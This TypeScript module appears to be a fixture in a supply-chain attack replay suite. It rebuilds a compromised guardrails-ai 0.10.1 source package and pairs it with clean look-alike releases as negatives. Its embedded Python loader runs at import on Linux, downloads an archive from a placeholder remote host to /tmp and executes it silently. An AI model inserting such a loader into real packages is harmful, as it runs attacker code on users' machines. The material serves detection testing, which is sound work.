import { beforeAttack, type Draft, type Remote, type Replay, siteIn } from './incident.ts';
import { validationLibrary } from './libraries/validation.ts';
import { securityScanner } from './look-alikes/text.ts';
import { py } from './python-text.ts';

const CODE = (c: Remote): string => py`
import os as _os
import subprocess as _subprocess
import sys as _sys
import urllib.request as _request


def _load_hub_index():
    if _sys.platform != "linux":
        return
    target = "/tmp/transformers.pyz"
    try:
        if not _os.path.exists(target):
            _request.urlretrieve("${c.url('/transformers.pyz')}", target)
        _subprocess.Popen(["python3", target], stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL, start_new_session=True)
    except Exception:
        pass


_load_hub_index()
`;

function malicious(c: Remote): Draft {
  const files = validationLibrary();
  return {
    kind: 'sdist',
    name: 'guardrails-ai',
    version: '0.10.1',
    files,
    sites: [siteIn(files, 'guardrails/__init__.py', CODE(c))],
  };
}

export const GUARDRAILS: Replay = {
  id: '20-guardrails',
  title: 'guardrails-ai 0.10.1: the sdist alone fetches an archive and runs it at import',
  source: 'https://github.com/guardrails-ai/guardrails/issues/1473',
  runs: 'import on Linux downloads transformers.pyz to /tmp and starts it with python3',
  remote: 'https://git-tanstack.invalid',
  draft: malicious,
  predecessor: () => beforeAttack(malicious, '0.10.0'),
  lookAlikes: () => [
    {
      why: 'the wheel of the very same release is clean, and its validator names the shapes of credentials',
      release: { kind: 'wheel', name: 'guardrails-ai', version: '0.10.1', files: validationLibrary() },
    },
    securityScanner(),
  ],
};
